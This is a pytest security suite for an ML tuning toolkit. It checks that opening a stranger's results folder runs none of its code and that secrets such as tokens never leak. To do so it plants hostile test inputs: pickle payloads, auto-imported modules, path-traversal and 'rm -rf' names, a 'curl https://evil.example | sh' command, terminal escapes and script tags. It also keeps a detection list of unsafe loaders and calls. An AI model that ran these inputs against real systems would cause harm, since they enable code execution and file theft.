"""What a stranger sends is opened without running anything of theirs, and secrets stay where they are.

The guards of single parts are tested beside them; docs/security.md lists which test stands for which promise.
"""

from __future__ import annotations

import ast
import contextlib
import hashlib
import io
import json
import os
import pickle
import shutil
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import torch
import yaml
from harm import Harm
from processes import ROOT, start
from tiny_grid import write_grid
from toy import exec_spec

import analysis.check
import analysis.tables
import trainable.evaluate
import tuner.run
import tuner.status
from trainable import records
from trainable.attempt import Attempt, RunFailed
from trainable.checkpoint import CheckpointError, RunFolder
from trainable.liveness import reached
from trainable.records import RecordError
from trainable.storage import Storage, StorageError
from tuner.facts import LocalFacts
from tuner.grid import Grid, load_grid
from tuner.ledger import survey, write_manifest

SECRETS = {
    name: f"sentinel-{number}-of-a-secret"
    for number, name in enumerate(
        ["HF_TOKEN", "WANDB_API_KEY", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "GITHUB_TOKEN", "RAY_AUTH_TOKEN"]
    )
}
SECRETS |= {"HTTPS_PROXY": "http://me:sentinel-of-a-proxy@127.0.0.1:9", "HF_ENDPOINT": "https://u:sentinel-hf@x.test"}


# --- the code itself

LOADERS = {"pickle", "_pickle", "cPickle", "cloudpickle", "dill", "marshal", "shelve", "joblib", "jsonpickle"}
EXCEPTIONS = {
    ("datasets/cifar.py", "pickle"): "the restricted reader of the CIFAR archives",
    ("trainable/weights.py", "pickle"): "names UnpicklingError, which torch's reader of weights raises",
}


def dangers(tree: ast.AST) -> Iterator[str]:
    """What could run somebody's data: modules that load objects, and calls that evaluate text."""
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            yield from (alias.name.split(".")[0] for alias in node.names if alias.name.split(".")[0] in LOADERS)
        elif isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] in LOADERS:
            yield str(node.module).split(".")[0]
        elif isinstance(node, ast.Call):
            name = ast.unparse(node.func)
            given = {keyword.arg: ast.unparse(keyword.value) for keyword in node.keywords}
            if name in ("eval", "exec", "compile", "__import__", "os.system", "os.popen", "importlib.import_module"):
                yield name
            if name.startswith("yaml.") and name.split(".")[-1] in ("load", "unsafe_load", "full_load", "load_all"):
                yield name
            if name.endswith("torch.load") and given.get("weights_only") != "True":
                yield "torch.load without weights_only=True"
            if name in ("np.load", "numpy.load") and given.get("allow_pickle") != "False":
                yield "np.load without allow_pickle=False"
            if name.startswith("pickle.") or name.split(".")[-1] in ("read_pickle", "extractall", "unpack_archive"):
                yield name
            if given.get("shell") == "True" or given.get("trust_remote_code") == "True":
                yield f"{name}(shell=True)"


def test_nothing_in_the_code_could_run_data() -> None:
    found = {
        (path.relative_to(ROOT).as_posix(), danger)
        for package in ("datasets", "trainable", "tuner", "analysis")
        for path in sorted((ROOT / package).rglob("*.py"))
        for danger in dangers(ast.parse(path.read_text()))
    }
    raised = {("datasets/cifar.py", "pickle.UnpicklingError")}
    assert found - raised == set(EXCEPTIONS)


def test_dangers_are_seen() -> None:
    text = (
        "import pickle as p\nfrom joblib import load\nimport torch, numpy as np, yaml\ntorch.load(x)\n"
        "torch.load(x, weights_only=False)\nnp.load(x)\nnp.load(x, allow_pickle=True)\nyaml.load(x, L)\neval(x)\n"
        "subprocess.run(x, shell=True)\ntar.extractall(y)\n"
    )
    assert len(list(dangers(ast.parse(text)))) == 10


# --- a stranger's results folder


@pytest.fixture(scope="module")
def file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A grid of two rows."""
    rows: dict[str, dict[str, Any]] = {"whole": {}, "begun": {"seed": 2}}
    return write_grid(tmp_path_factory.mktemp("grid") / "tiny.yaml", rows, {"budget.epochs": 1})


@pytest.fixture(scope="module")
def grid(file: Path, data_path: Path) -> Grid:
    """The same, resolved."""
    return load_grid(file, "tiny", None, LocalFacts(data_path, None, download=False))


@pytest.fixture(scope="module")
def store(grid: Grid, data_path: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Its results: `whole` is committed, `begun` was stopped and keeps a checkpoint."""
    root = tmp_path_factory.mktemp("store") / "results"
    storage = Storage(str(root))
    whole, begun = (Attempt(run.spec, exec_spec(data_path), storage) for run in grid.runs)
    while not whole.done:
        whole.advance()
    begun.advance(0.0)
    begun.stop()
    write_manifest(storage, grid, survey(storage, grid), ["python", "-m", "tuner.run", "--grid", "tiny"], {})
    return root


@pytest.fixture
def results(store: Path, tmp_path: Path) -> Path:
    """A copy to be harmed."""
    return Path(shutil.copytree(store, tmp_path / "results"))


class Opened:
    """Everything that opens a results folder, and what came of it."""

    def __init__(self, results: Path, file: Path, grid: Grid, data_path: Path, out: Path) -> None:
        storage = str(results)
        whole, begun = (run.spec for run in grid.runs)
        given = ["--grid", "tiny", "--results", storage]
        plan = ["--experiments", str(file), "--data", str(data_path)]
        self.shown = ""
        self.codes = {
            "tables": self._call(analysis.tables.main, [*given, "--out", str(out)]),
            "status": self._call(tuner.status.main, given),
            "status --json": self._call(tuner.status.main, [*given, "--json"]),
            "plan": self._call(tuner.run.main, [*given, *plan, "--dry-run"]),
            "evaluate": self._call(
                trainable.evaluate.main, [whole.run_id, "--results", storage, "--data", str(data_path)]
            ),
        }
        for spec in (whole, begun):
            try:
                attempt = Attempt(spec, exec_spec(data_path), Storage(storage))
                attempt.advance(0.0)
                attempt.stop()
                self.codes[f"resume {spec.seed}"] = 0
            except (RunFailed, RecordError, StorageError) as error:
                self.shown += str(error)
                self.codes[f"resume {spec.seed}"] = 2

    def _call(self, main: Callable[[list[str]], int], arguments: list[str]) -> int:
        sink = io.StringIO()
        with contextlib.redirect_stdout(sink), contextlib.redirect_stderr(sink):
            code = main(arguments)
        self.shown += sink.getvalue()
        return code


def files(results: Path) -> list[Path]:
    return [path for path in sorted(results.rglob("*")) if path.is_file()]


def replace_all(content: Callable[[Path], bytes]) -> Callable[[Path, Path], None]:
    def act(results: Path, harm: Path) -> None:
        for path in files(results):
            path.write_bytes(content(harm))

    return act


def torch_file(harm: Path) -> bytes:
    sink = io.BytesIO()
    torch.save({"x": Harm(harm)}, sink)
    return sink.getvalue()


def framed(header: bytes) -> bytes:
    """A safetensors file without tensors."""
    return len(header).to_bytes(8, "little") + header


def object_array(harm: Path) -> bytes:
    sink = io.BytesIO()
    np.save(sink, np.array([Harm(harm)], dtype=object), allow_pickle=True)
    return sink.getvalue()


def committed_as(results: Path, change: Callable[[str, bytes], bytes]) -> None:
    """Changes every Parquet file and makes the commit say that it is so."""
    for path in (results / "commits").iterdir():
        commit = json.loads(path.read_text())
        for record in commit["files"]:
            content = change(record["table"], (results / record["path"]).read_bytes())
            (results / record["path"]).write_bytes(content)
            record |= {"bytes": len(content), "sha256": hashlib.sha256(content).hexdigest()}
            with contextlib.suppress(Exception):
                record["rows"] = pq.ParquetFile(io.BytesIO(content)).metadata.num_rows
        path.write_text(json.dumps(commit))


def unknown_types(results: Path, harm: Path) -> None:
    """Extension types of old Arrow and of nobody, with a pickle as their parameter; pandas' metadata with another."""
    extension_types(results, harm, ["arrow.py_extension_type", "evil"], lambda dtype: True)


def known_types(results: Path, harm: Path) -> None:
    """Those of Ray, whose older versions unpickled the parameter, where they fit the column."""
    import ray.data  # noqa: F401 (registers them)

    extension_types(results, harm, ["ray.data.arrow_tensor", "ray.data.arrow_tensor_v2"], pa.types.is_list)


def extension_types(results: Path, harm: Path, names: list[str], fits: Callable[[pa.DataType], bool]) -> None:
    evil = pickle.dumps(Harm(harm))

    def change(_: str, content: bytes) -> bytes:
        table = pq.read_table(io.BytesIO(content))
        fields = []
        for number, field in enumerate(table.schema):
            kind = {"ARROW:extension:name": names[number % len(names)], "ARROW:extension:metadata": evil}
            fields.append(field.with_metadata(kind) if fits(field.type) else field)
        pandas = {"pandas": b'{"index_columns": [], "columns": [{"name": "x", "pandas_type": "object"}]}', "x": evil}
        sink = io.BytesIO()
        pq.write_table(table.cast(pa.schema(fields, metadata=pandas)), sink)
        return sink.getvalue()

    committed_as(results, change)


def billions_of_rows(results: Path, harm: Path) -> None:
    """Equal values pack to next to nothing."""

    sink = io.BytesIO()
    pq.write_table(pa.table({"run_id": pa.repeat(True, 30_000_000)}), sink, compression="zstd")
    committed_as(results, lambda table, content: sink.getvalue())


CHECKPOINTS = {
    "length beyond all memory": b"\xff" * 8,
    "length of a gigabyte": (1 << 30).to_bytes(8, "little") + b"{",
    "shape beyond all memory": framed(b'{"a":{"dtype":"F32","shape":[4611686018427387904,4],"data_offsets":[0,4]}}'),
    "nested header": framed(b"[" * 200_000),
    "nested state": framed(json.dumps({"__metadata__": {"meta": "[" * 200_000, "sha256": "x"}}).encode()),
}


def hostile_checkpoints(results: Path, harm: Path) -> None:
    for number, path in enumerate(path for path in files(results) if path.suffix == ".safetensors"):
        path.write_bytes(list(CHECKPOINTS.values())[number % len(CHECKPOINTS)])


def fifos(results: Path, harm: Path) -> None:
    for path in files(results):
        path.unlink()
        os.mkfifo(path)


def links(results: Path, harm: Path) -> None:
    secret = results.parent / "secret"
    secret.write_text("sentinel-of-a-linked-file")
    for path in files(results):
        path.unlink()
        path.symlink_to(secret)


def linked_folders(results: Path, harm: Path) -> None:
    outside = results.parent / "outside"
    outside.mkdir()
    for path in sorted(results.iterdir()):
        shutil.rmtree(path) if path.is_dir() else path.unlink()
        path.symlink_to(outside)


def sparse(results: Path, harm: Path) -> None:
    for path in files(results):
        with path.open("r+b") as opened:
            opened.truncate(1 << 40)


def modules(results: Path, harm: Path) -> None:
    """Nothing of theirs is imported or unpickled for lying there; all that is ours is untouched."""
    code = f"import os; os.mkdir({str(harm)!r})\n"
    names = ("sitecustomize", "usercustomize", "conftest", "numpy", "rich", "pyarrow", "torch", "__init__", "analysis")
    for folder in [results, *(path for path in sorted(results.rglob("*")) if path.is_dir())]:
        for name in names:
            (folder / f"{name}.py").write_text(code)
        (folder / "evil.pth").write_text(code)
        for name in ("state.pkl", "model.pt", "cache.joblib", "tuner.pkl", "trainable.pkl"):
            (folder / name).write_bytes(pickle.dumps(Harm(harm)))


HARMS: dict[str, Callable[[Path, Path], None]] = {
    "pickles": replace_all(lambda harm: pickle.dumps(Harm(harm))),
    "torch files": replace_all(torch_file),
    "object arrays": replace_all(object_array),
    "nested": replace_all(lambda harm: b"[" * 200_000),
    "numbers": replace_all(lambda harm: b"9" * 5_000),
    "lists": replace_all(lambda harm: b"[]"),
    "records of nothing": replace_all(lambda harm: b'{"schema_version": 1, "rows": [], "runs": [{}]}'),
    "nothing": replace_all(lambda harm: b""),
    "unknown types": unknown_types,
    "known types": known_types,
    "billions of rows": billions_of_rows,
    "checkpoints": hostile_checkpoints,
    "fifos": fifos,
    "links": links,
    "linked folders": linked_folders,
    "sparse": sparse,
    "modules": modules,
}
CLEAN = {"modules", "unknown types"}
"""What is not looked at: the folder opens as if it were not there."""


@pytest.mark.timeout(60)
@pytest.mark.parametrize("name", HARMS)
def test_a_strangers_results_run_nothing(
    name: str,
    results: Path,
    file: Path,
    grid: Grid,
    data_path: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    harm = tmp_path / "harm"
    HARMS[name](results, harm)
    monkeypatch.chdir(tmp_path)
    outside = {path: path.read_bytes() for path in (tmp_path / "secret",) if path.exists()}
    opened = Opened(results, file, grid, data_path, tmp_path / "out")
    assert not harm.exists()
    assert "sentinel" not in opened.shown and "Traceback" not in opened.shown
    assert all(path.read_bytes() == content for path, content in outside.items())
    assert not (tmp_path / "outside").exists() or not list((tmp_path / "outside").iterdir())
    assert set(opened.codes.values()) <= {0, 2}
    if name == "billions of rows":
        assert "30,000,000 rows, its commit says 30,000,000, and at most are 20,000,000" in opened.shown
    if name in CLEAN:
        assert set(opened.codes.values()) == {0}, opened.shown
    else:
        assert opened.codes["tables"] == 2 or name == "checkpoints", opened.shown


@pytest.mark.parametrize("name", CHECKPOINTS)
def test_checkpoints_of_strangers_are_set_aside(name: str, storage: Storage) -> None:
    folder = RunFolder(storage, "0" * 16)
    storage.put(folder.path("checkpoint/last/state.safetensors"), CHECKPOINTS[name])
    with pytest.raises(CheckpointError, match="not a whole checkpoint"):
        folder.load("last")
    assert reached(storage, folder.run_id) is None


# --- records that name what is not theirs


def rewrite(path: Path, change: Callable[[dict[str, Any]], object]) -> None:
    content = json.loads(path.read_text())
    change(content)
    path.write_text(json.dumps(content))


BAD = ["../../secret", "/etc/passwd", "a/../../b", "..\\..\\x", "x/y", "a\nb", "\x1b]0;owned\x07", "", "..", "."]


@pytest.mark.parametrize("bad", BAD)
def test_commits_name_nothing_but_their_own_files(bad: str, results: Path) -> None:
    (path,) = (results / "commits").iterdir()
    text = path.read_text()
    for change in (
        lambda commit: commit["files"][0].update(path=bad),
        lambda commit: commit["files"].append({**commit["files"][0], "table": bad}),
        lambda commit: commit.update(run_id=bad),
        lambda commit: commit.update(attempt_id=bad),
        lambda commit: commit.update(dataset=bad),
        lambda commit: commit["files"][0].update(path=commit["files"][1]["path"]),
        lambda commit: commit["files"].pop(),
    ):
        path.write_text(text)
        rewrite(path, change)
        unusable: list[str] = []
        assert records.read_commits(Storage(str(results)), unusable=unusable) == {}
        assert unusable == [f"{path}: not a whole commit record; it does not count"]


@pytest.mark.parametrize("bad", BAD)
@pytest.mark.parametrize("key", ["run_id", "attempt_id"])
def test_attempts_are_those_of_their_names(key: str, bad: str, results: Path) -> None:
    """What a record says of its run or itself is not read."""
    before = records.read_attempts(Storage(str(results)))
    for path in (results / "attempts").glob("*[!d].json"):
        rewrite(path, lambda record: record.update({key: bad}))
    assert records.read_attempts(Storage(str(results))) == before
    for path in (results / "attempts").iterdir():
        path.rename(path.with_name(f"x.y{path.name[3:]}"))
    assert records.read_attempts(Storage(str(results))) == [], "names that no run has are none of ours"


FIELDS: dict[str, Callable[[dict[str, Any], Any], object]] = {
    "run_id": lambda manifest, bad: manifest["runs"][0].update(run_id=bad),
    "variant": lambda manifest, bad: manifest.update(variant=bad),
    "grid": lambda manifest, bad: manifest.update(grid=bad),
    "label": lambda manifest, bad: manifest["runs"][0].update(label=[bad]),
    "axes": lambda manifest, bad: manifest["rows"][0].update(axes={"row": [bad]}),
    "command": lambda manifest, bad: manifest.update(command={"python": bad}),
    "sweep": lambda manifest, bad: manifest.update(sweep={"scheduler": bad}),
    "time": lambda manifest, bad: manifest.update(written_at=bad),
}


@pytest.mark.parametrize("field", FIELDS)
def test_manifests_name_runs_and_folders_by_ids_alone(
    field: str, results: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (path,) = (results / "grids" / "tiny").iterdir()
    text = path.read_text()
    for bad in BAD:
        path.write_text(text)
        rewrite(path, lambda manifest, bad=bad: FIELDS[field](manifest, bad))
        for main, more in ((analysis.tables.main, ["--out", str(tmp_path / "out")]), (tuner.status.main, [])):
            assert main(["--grid", "tiny", "--results", str(results), *more]) == 2
            assert "not a manifest of this project; run the grid again" in capsys.readouterr().err
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("bad", ["../../grids/tiny", "/etc", "..", "tiny/../tiny", "x\x1b[2J"])
def test_a_grids_name_on_the_command_line_stays_within_the_results(
    bad: str, results: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert analysis.tables.main(["--grid", bad, "--results", str(results), "--out", str(tmp_path / "out")]) == 2
    assert tuner.status.main(["--grid", bad, "--results", str(results)]) in (0, 2)
    shown = capsys.readouterr()
    assert "\x1b" not in shown.out + shown.err and not (tmp_path / "out").exists()


def test_folders_that_no_grid_can_be_called_after_are_none_of_ours(results: Path) -> None:
    for name in ("x; rm -rf ~", "-rf", "\x1b[2J", "a b"):
        shutil.copytree(results / "grids" / "tiny", results / "grids" / name)
    from trainable.manifests import grid_names

    assert grid_names(Storage(str(results))) == ["tiny"]


def test_a_spec_that_leaves_its_folder_is_refused(
    results: Path, grid: Grid, data_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = results / "runs" / grid.runs[0].run_id / "spec.json"
    rewrite(path, lambda spec: spec["data"].update(dataset="../../etc"))
    assert trainable.evaluate.main([grid.runs[0].run_id, "--results", str(results), "--data", str(data_path)]) == 2
    assert "data.dataset" in capsys.readouterr().err


# --- what is shown of a stranger's records

LABEL = "\x1b]0;owned\x07[bold]loud[/bold] [link=https://evil.example]x[/link] <script>alert(1)</script> | :bug:"


def test_names_of_strangers_are_text(
    results: Path, file: Path, grid: Grid, data_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A label, an axis, a reason and a command that would steer a terminal, a page, or whoever types what is printed."""
    (path,) = (results / "grids" / "tiny").iterdir()

    def change(manifest: dict[str, Any]) -> None:
        for entry in [*manifest["rows"], *manifest["runs"]]:
            entry["label"] += LABEL
        manifest["help"] += LABEL
        manifest["rows"][0]["axes"] = {"row": LABEL, "=1+1": "=1+1"}
        manifest["command"] = ["curl", "https://evil.example", "|", "sh"]

    rewrite(path, change)
    for end in (results / "attempts").glob(f"{grid.runs[1].run_id}*.end.json"):
        rewrite(end, lambda record: record.update(outcome="failed", error=LABEL))
    given = ["--grid", "tiny", "--results", str(results)]
    assert analysis.tables.main([*given, "--out", str(tmp_path / "out")]) == 0
    assert analysis.check.main(given) in (0, 1)
    assert tuner.status.main(given) == 0
    assert tuner.status.main([*given, "--json"]) == 0
    assert tuner.run.main([*given, "--experiments", str(file), "--data", str(data_path), "--dry-run"]) == 0
    shown = "".join(capsys.readouterr())
    assert "\x1b" not in shown and "\x07" not in shown
    assert "[bold]loud[/bold] [link=https://evil.example]x[/link]" in shown and ":bug:" in shown
    assert "curl" not in shown.split('"command"')[0], "not offered as what to type next"
    written = {path.suffix: path.read_text() for path in (tmp_path / "out" / "tiny").glob("T1.*")}
    assert "\x1b" not in "".join(written.values())
    for page in (written[".md"], written[".html"]):
        assert "<script>" not in page and "&lt;script&gt;" in page
    assert "'=1+1" in written[".csv"]


# --- names in an experiment file


@pytest.mark.parametrize(
    "name", ["../../x", "/etc/x", "a/b", "..", ".hidden", "-rf", "a b", "a\nb", "\x1b[2J", "x" * 101]
)
@pytest.mark.parametrize("kind", ["grids", "sweeps"])
def test_names_of_grids_and_sweeps_stay_folders(
    kind: str, name: str, file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    content = yaml.safe_load(file.read_text())
    block = {"help": "x", "over": "tiny", "field": "optim.lr", "space": {"values": [0.1]}}
    content.setdefault(kind, {})[name] = content["grids"]["tiny"] if kind == "grids" else block
    bad = tmp_path / "bad.yaml"
    bad.write_text(json.dumps(content))
    given = ["--experiments", str(bad), "--results", str(tmp_path / "results"), "--log", "tensorboard"]
    assert tuner.run.main([f"--grid={name}", *given]) == 2
    shown = capsys.readouterr().err
    assert "cannot be a name: it becomes a folder's; use letters, digits" in shown and "\x1b" not in shown
    assert sorted(path.name for path in tmp_path.iterdir()) == ["bad.yaml"]


FIELDS_OF_A_ROW = {
    "data.dataset": (["../../etc", "/etc", "a/b", "x\n"], "data.dataset"),
    "model.name": (["../../x", "os.system"], "is not one of"),
}


@pytest.mark.parametrize("field", FIELDS_OF_A_ROW)
def test_fields_that_become_places_are_checked(
    field: str, tmp_path: Path, data_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    values, message = FIELDS_OF_A_ROW[field]
    for value in values:
        file = write_grid(tmp_path / "bad.yaml", {"row": {field: value}})
        assert (
            tuner.run.main(["--grid", "tiny", "--experiments", str(file), "--data", str(data_path), "--dry-run"]) == 2
        )
        assert message in capsys.readouterr().err


@pytest.mark.parametrize("source", ["../../../../etc/passwd", "/etc/passwd", "..\\x"])
def test_weights_of_a_row_stay_within_their_folder(
    source: str, tmp_path: Path, data_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for kind in ("file", "hub"):
        file = write_grid(tmp_path / "bad.yaml", {"row": {"init.kind": kind, "init.source": source}})
        given = ["--grid", "tiny", "--experiments", str(file), "--data", str(data_path), "--weights", str(tmp_path)]
        assert tuner.run.main([*given, "--results", str(tmp_path / "results"), "--dry-run"]) == 0
        assert "must be a name within --weights, not a path that leaves it" in capsys.readouterr().out


@pytest.mark.parametrize("label", ["\x1b]0;owned\x07", "two\nlines", "", "x" * 201, "a\u202eb"])
def test_labels_are_one_visible_line(
    label: str, tmp_path: Path, data_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = write_grid(tmp_path / "bad.yaml", {label: {}})
    assert tuner.run.main(["--grid", "tiny", "--experiments", str(file), "--data", str(data_path), "--dry-run"]) == 2
    shown = capsys.readouterr().err
    assert "\x1b" not in shown and shown.count("printable characters") == 2, "as a row and as a value of its axis"


# --- secrets


def command_lines(pid: int) -> set[str]:
    """Of a process and those that it started, as every user of the machine sees them."""
    try:
        home = Path(f"/proc/{pid}")
        children = [int(child) for child in (home / f"task/{pid}/children").read_text().split()]
        return {(home / "cmdline").read_text()}.union(*map(command_lines, children))
    except OSError:
        return set()


def test_secrets_of_the_environment_are_written_nowhere(file: Path, data_path: Path, tmp_path: Path) -> None:
    """A real run: nothing of them on the screen, in any file, or in the command line of any process."""
    given = ("--grid", "tiny", "--label", "whole", "--experiments", file, "--data", data_path)
    process = start("trainable.run", *given, "--results", tmp_path / "results", env=SECRETS)
    seen: set[str] = set()
    assert process.stdout is not None
    with process.stdout:
        reader = threading.Thread(target=lambda: shown.append(process.stdout.read()), daemon=True)  # type: ignore[union-attr]
        shown: list[str] = []
        reader.start()
        while process.poll() is None:
            seen |= command_lines(process.pid)
            reader.join(timeout=0.05)
        reader.join(timeout=10)
    assert process.returncode == 0, shown
    assert any("tuner.run" in line for line in seen), "the planner's process was seen"
    written = files(tmp_path / "results")
    assert {path.suffix for path in written} >= {".json", ".parquet", ".txt", ".safetensors"}
    texts = [*seen, *shown, *(path.read_bytes().decode("latin-1") for path in written)]
    texts += [str(pq.read_table(path).to_pylist()) for path in written if path.suffix == ".parquet"]
    assert not any("sentinel" in text for text in texts)


MAINS = {
    "analysis.tables": analysis.tables.main,
    "analysis.check": analysis.check.main,
    "tuner.status": tuner.status.main,
    "tuner.run": tuner.run.main,
    "trainable.evaluate": trainable.evaluate.main,
}


@pytest.mark.parametrize("module", MAINS)
def test_keys_in_a_uri_are_refused_before_anything_is_recorded(
    module: str, file: Path, data_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    more = {
        "tuner.run": ["--grid", "tiny", "--experiments", str(file), "--data", str(data_path)],
        "trainable.evaluate": ["0", "--data", str(data_path)],
    }
    uri = "s3://AKIAEXAMPLE:sentinel/of/a/key@bucket/study"
    assert MAINS[module]([*more.get(module, ["--grid", "tiny"]), "--results", uri]) == 2
    shown = "".join(capsys.readouterr())
    assert "--results s3://...: carries credentials" in shown and "AWS_SECRET_ACCESS_KEY" in shown
    assert "sentinel" not in shown


def test_rays_own_arrow_types_never_unpickle_here(monkeypatch: pytest.MonkeyPatch) -> None:
    """Ray reads this when it is imported; with 1, opening a Parquet file could run what it carries."""
    from tuner.invocation import ray_environment

    monkeypatch.setattr("os.environ", {"RAY_DATA_AUTOLOAD_CLOUDPICKLE_TENSOR_METADATA": "1"})
    ray_environment(local=False)
    assert os.environ["RAY_DATA_AUTOLOAD_CLOUDPICKLE_TENSOR_METADATA"] == "0"
